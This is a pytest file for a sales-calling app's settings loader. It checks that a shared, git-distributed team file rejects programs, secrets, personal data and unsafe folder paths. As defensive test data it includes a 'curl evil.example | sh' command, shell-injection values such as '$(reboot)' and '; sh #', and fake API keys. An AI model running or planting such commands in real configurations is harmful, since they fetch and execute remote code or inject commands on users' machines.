"""A shared file comes by git: it may not run, identify or reveal anything."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from tui.settings.load import Loaded
from tui.settings.places import Places

Load = Callable[..., Loaded]


@pytest.mark.parametrize(
    ("team", "line", "col", "name"),
    [
        ('dialer: {command: [sh, -c, "x {e164}"]}', 2, 10, "dialer.command"),
        ('dialer: {command: "curl evil.example | sh"}', 2, 10, "dialer.command"),
        ("editor: vim", 2, 1, "editor"),
    ],
)
def test_a_program_in_the_shared_file_is_refused_and_never_offered_for_pasting(
    team: str, line: int, col: int, name: str, settings_from: Load, places: Places
) -> None:
    found = settings_from(team=team)
    assert [(p.code, p.severity, p.line, p.col) for p in found.problems] == [("PH910", "error", line, col)]
    assert found.problems[0].help.endswith(f"writes `{name}` in their own settings ({places.own})")
    assert found.settings.dial.command == found.settings.editor == ()
    assert found.settings.dial.kind == "manual"


@pytest.mark.parametrize("team", ['hooks: {after_call: "notify-send x"}', "crm:\n  shell: sh"])
def test_a_program_under_any_other_name_is_refused_as_well(team: str, settings_from: Load) -> None:
    found = settings_from(team=team)
    assert [p.code for p in found.problems] == ["PH910"]
    assert "delete it" in found.problems[0].help


@pytest.mark.parametrize(
    ("team", "paste"),
    [
        ("me: {name: Sam Reed}", ':   me: {name: "Sam Reed"}'),
        ('dialer: {kind: uri, prefix: "0"}', ":   dialer: {prefix: 0}"),
        ("softphone: {account: sip}", "own.yaml)"),
        ("team_file: x.yaml", "own.yaml)"),
        ('softphone: {"; sh #": x}', "writes `softphone` in their own settings"),
        ("me: {name: $(reboot)}", "writes `me.name` in their own settings"),
        ("me: {name: 'a; b'}", "writes `me.name` in their own settings"),
        ('me: {name: "a\\e[2J"}', "writes `me.name` in their own settings"),
        ("me: {name: " + "x" * 500 + "}", "writes `me.name` in their own settings"),
        ("me: {name: {x: 1}}", "writes `me` in their own settings"),
    ],
)
def test_what_is_personal_is_refused_and_only_plain_words_are_offered_for_pasting(
    team: str, paste: str, settings_from: Load
) -> None:
    found = settings_from(team=team)
    (refused,) = [problem for problem in found.problems if problem.code == "PH911"]
    assert paste in refused.help
    assert paste.startswith(":") or ":   " not in refused.help


@pytest.mark.parametrize(
    "team",
    [
        "crm: {api_key: abc123}",
        "record: {password: hush}",
        "softphone: {token: abc}",
        "experiments: {metric: sk-abcdefghijklmnopqrstuv}",
        "team: {company: ghp_abcdefghijklmnopqrstuvwx}",
        "card_fields: [AKIAABCDEFGHIJKLMNOP]",
    ],
)
def test_a_secret_in_the_shared_file_is_refused(team: str, settings_from: Load) -> None:
    found = settings_from(team=team)
    assert [(p.code, p.severity, p.line) for p in found.problems] == [("PH912", "error", 2)]
    assert "keyring" in found.problems[0].help


@pytest.mark.parametrize(
    "team",
    [
        "outcomes: {secret_shopper: {is: win, key: b, label: Secret shopper}}",
        "outcomes: {run: {is: win, key: b, label: Trial run}}",
        "defaults: {en: {command: please}}",
    ],
)
def test_a_harmless_name_is_neither_a_secret_nor_a_program(team: str, settings_from: Load) -> None:
    assert settings_from(team=team).problems == ()


def test_a_password_in_the_own_file_is_refused_as_well(settings_from: Load) -> None:
    found = settings_from(own="softphone: {password: hush}")
    assert [p.code for p in found.problems] == ["PH912"]
    assert found.settings.softphone == {}


def test_a_secret_is_never_repeated_in_the_report(settings_from: Load) -> None:
    found = settings_from(team="crm: {api_key: abc123}")
    assert "abc123" not in found.problems[0].message + found.problems[0].help


def test_somebody_s_number_in_the_shared_file_is_a_warning(settings_from: Load) -> None:
    found = settings_from(team='team: {company: "Acme, ask Ann +44 20 7946 0100"}')
    assert [(p.code, p.severity, p.line, p.col) for p in found.problems] == [("PH913", "warning", 2, 17)]
    assert found.settings.company.startswith("Acme")


def test_dates_and_hours_are_no_personal_data(settings_from: Load) -> None:
    team = "calling_window: {holidays: [2026-12-25], mon-fri: 09:00-18:00}\nsessions: {minutes: [15]}"
    assert settings_from(team=team).problems == ()


@pytest.mark.parametrize(
    "own", ["team: {language: it}", "outcomes: {win: off}", "lock: []", "scripts: {folder: mine}"]
)
def test_a_decision_of_the_team_is_not_one_rep_s(own: str, settings_from: Load) -> None:
    found = settings_from(own=own)
    assert [(p.code, p.line, p.file.endswith("own.yaml")) for p in found.problems] == [("PH915", 1, True)]
    assert found.settings == settings_from(own="").settings


def test_the_company_is_the_team_s_once_the_team_says_it(settings_from: Load) -> None:
    mine = "team: {company: Mine}"
    empty = settings_from(team='team: {company: ""}', own=mine)
    assert (empty.settings.company, empty.problems) == ("Mine", ())
    said = settings_from(team="team: {company: Northgate}", own=mine)
    assert (said.settings.company, [p.code for p in said.problems]) == ("Northgate", ["PH915"])


def test_a_rep_without_a_team_decides_alone(settings_from: Load) -> None:
    found = settings_from(own="team: {company: Mine}\noutcomes: {win: {label: Sold}}", shared=False)
    assert found.problems == ()
    assert found.settings.company == "Mine"
    assert {o.id: o.label for o in found.settings.outcomes}["win"] == "Sold"


def test_a_link_out_of_the_team_folder_is_refused(settings_from: Load, places: Places) -> None:
    outside = places.team.parent / "outside"
    outside.mkdir()
    (places.team / "linked").symlink_to(outside)
    found = settings_from(team="scripts: {folder: linked}")
    assert [(p.code, p.line) for p in found.problems] == [("PH914", 2)]
    assert not found.settings.scripts_folder.exists()


def test_a_command_must_be_a_list_that_names_the_number(settings_from: Load) -> None:
    for own in ("dialer: {command: ring it}", "dialer: {command: []}", "dialer: {command: [ring]}"):
        found = settings_from(own=own)
        assert [p.code for p in found.problems] == ["PH917"]
        assert '[program, argument, "{e164}"]' in found.problems[0].help


@pytest.mark.parametrize(
    ("written", "lies"),
    [
        ("{team}/people", "lies in the team folder, which is for words and rules"),
        ("{repo}/people", "lies in a folder of git, which would keep people for ever"),
        ("{data}", "and your data folder lie one in the other"),
        ("{data}/people", "and your data folder lie one in the other"),
    ],
)
def test_people_never_lie_where_git_or_the_store_is(
    written: str, lies: str, settings_from: Load, places: Places, tmp_path: Path
) -> None:
    (tmp_path / "repo" / ".git").mkdir(parents=True)
    folder = written.format(team=places.team, repo=tmp_path / "repo", data=places.data)
    found = settings_from(own=f"people_folder: {folder}")
    assert [(p.code, p.message) for p in found.problems] == [("PH943", f"`people_folder` {lies}")]
    assert found.settings.people_folder is None


def test_beside_a_shared_list_the_people_folder_is_not_visited_and_that_is_said(settings_from: Load) -> None:
    found = settings_from(
        own="people_folder: people\nshared_list: {postgresql: postgresql://kim@db.example.com/calls}"
    )
    assert [(p.code, p.severity) for p in found.problems] == [("PH944", "warning")]
    assert "delete  people_folder" in found.problems[0].help
    assert found.settings.people_folder is None
    assert found.settings.shared_list


def test_the_people_folder_is_the_reps_own(settings_from: Load, tmp_path: Path) -> None:
    assert [p.code for p in settings_from(team="people_folder: people").problems] == ["PH911"]
    found = settings_from(own="people_folder: drive/people")
    assert (found.problems, found.settings.people_folder) == ((), tmp_path / "drive" / "people")
